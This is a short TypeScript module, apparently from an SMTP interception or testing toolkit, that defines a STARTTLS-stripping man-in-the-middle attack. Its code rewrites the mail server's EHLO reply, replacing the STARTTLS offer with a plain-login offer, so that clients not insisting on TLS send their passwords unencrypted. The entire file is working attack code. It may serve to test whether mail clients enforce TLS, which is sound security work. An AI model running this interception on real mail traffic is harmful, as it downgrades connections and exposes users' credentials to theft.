import type { Attack } from './attack.ts'
import { intercept } from './interception.ts'

/**
 * Takes the offer of STARTTLS out of the server's list, and puts an offer to log
 * in there instead: a client that does not insist on TLS then gives its password.
 *
 * @see RFC 3207 §6
 */
export const stripStarttls: Attack = {
  does: 'replace "250-STARTTLS" in the answer to EHLO by "250-AUTH PLAIN LOGIN"',
  start: () =>
    intercept((direction, payload) => {
      if (direction === 'c2s') return payload
      const text = payload.toString('latin1')
      return text.includes('250-STARTTLS\r\n')
        ? Buffer.from(text.replace('250-STARTTLS\r\n', '250-AUTH PLAIN LOGIN\r\n'), 'latin1')
        : payload
    }),
}
